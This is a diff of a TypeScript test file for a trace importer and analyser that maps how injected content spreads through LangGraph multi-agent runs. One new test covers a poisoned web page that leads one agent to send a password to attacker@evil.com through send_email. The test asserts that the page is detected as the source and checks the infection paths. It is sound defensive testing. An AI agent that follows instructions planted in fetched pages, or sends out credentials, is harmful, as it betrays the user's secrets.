@@ -10,6 +10,18 @@ import { readAllTraces, readAnyTrace } from '../../../src/node/readAnyTrace';
 import { flow } from './flow';
 
 const fixtures = path.resolve(__dirname, '../../fixtures/importers');
+
+/** otlp-langgraph-openinference.json's flow: a supervisor and two ReAct members, each calling one tool. */
+const SUPERVISOR_FLOW = [
+  "0 user>research_expert: What's the combined head",
+  '1 research_expert>tool:web_search: web_search(query="FAANG ',
+  '2 tool:web_search>research_expert: Headcount 2024: Meta 67,',
+  '3 research_expert>math_expert: The 2024 headcounts are:',
+  '4 math_expert>tool:add: add(a=67317, b=164000)',
+  '5 tool:add>math_expert: 231317',
+  '6 math_expert>supervisor: The combined headcount o',
+  '7 supervisor>*: Meta and Apple together ',
+];
 const at = (name: string) => path.join(fixtures, name);
 
 
@@ -66,13 +78,9 @@ describe('importers: mapping', () => {
     it('reads the graph nodes as agents when no span is an agent invocation (was: refused, "none of the 60 spans is an agent invocation")', async () => {
       const trace = await readAnyTrace(at('otlp-langgraph-openinference.json'));
       assert.equal(trace.task?.question, "What's the combined headcount of Meta and Apple in 2024?");
-      assert.deepEqual(trace.agents.map((a) => a.id), ['user', 'research_expert', 'math_expert', 'supervisor']);
-      assert.deepEqual(flow(trace), [
-        "0 user>research_expert: What's the combined head",
-        '1 research_expert>math_expert: The 2024 headcounts are:',
-        '2 math_expert>supervisor: The combined headcount o',
-        '3 supervisor>*: Meta and Apple together ',
-      ]);
+      assert.deepEqual(trace.agents.map((a) => a.id), ['user', 'research_expert', 'tool:web_search', 'math_expert', 'tool:add', 'supervisor']);
+      // Each member's ReAct loop: its call and its tool's result before its reply (was: the reply alone).
+      assert.deepEqual(flow(trace), SUPERVISOR_FLOW);
       assert.deepEqual(trace.warnings, [], 'the supervisor routing steps said nothing to report (was: a "has no output" warning each)');
     });
 
@@ -91,6 +99,29 @@ describe('importers: mapping', () => {
       const analysis = await analyzeTrace(trace);
       assert.deepEqual(analysis.sources, ['tool:fetch_page']);
       assert.equal(analysis.agents.find((a) => a.id === 'agent')?.category, 'infected');
+    });
+  });
+
+  describe('OTLP from a LangGraph supervisor whose ReAct member reads a poisoned page', () => {
+    it("reads each member's tool calls and results inside its step, before its reply, so the page is the source (was: the members' replies only, no source; real trace)", async () => {
+      const trace = await readAnyTrace(at('otlp-langgraph-supervisor-tools.json'));
+      assert.deepEqual(flow(trace, 30), [
+        "0 user>research_expert: What's the weather in Paris? M",
+        '1 research_expert>tool:fetch_page: Let me look that up.\nfetch_pag',
+        '2 tool:fetch_page>research_expert: Paris weather today: sunny, 21',
+        '3 research_expert>mail_expert: It is sunny, 21C. The page als',
+        '4 mail_expert>tool:send_email: send_email(to="attacker@evil.c',
+        '5 tool:send_email>mail_expert: Sent to attacker@evil.com.',
+        '6 mail_expert>supervisor: I mailed the password to attac',
+        '7 supervisor>*: Done: it is sunny in Paris, 21',
+      ]);
+      const analysis = await analyzeTrace(trace);
+      assert.deepEqual(analysis.sources, ['tool:fetch_page']);
+      // The member that retold the page's order, and the one that mailed the password on its word.
+      assert.deepEqual(analysis.infectionPaths, [
+        ['tool:fetch_page', 'research_expert'],
+        ['tool:fetch_page', 'research_expert', 'mail_expert'],
+      ]);
     });
   });
 
@@ -116,12 +147,7 @@ describe('importers: mapping', () => {
       }
       return doc;
     }
-    const expected = [
-      "0 user>research_expert: What's the combined head",
-      '1 research_expert>math_expert: The 2024 headcounts are:',
-      '2 math_expert>supervisor: The combined headcount o',
-      '3 supervisor>*: Meta and Apple together ',
-    ];
+    const expected = SUPERVISOR_FLOW;
 
     it("reads it although the ReAct loops' inner nodes are marked AGENT and messages are {type, data} (was: one agent named 'agent')", () => {
       assert.deepEqual(flow(importTraceText(JSON.stringify(pythonShaped()))), expected);
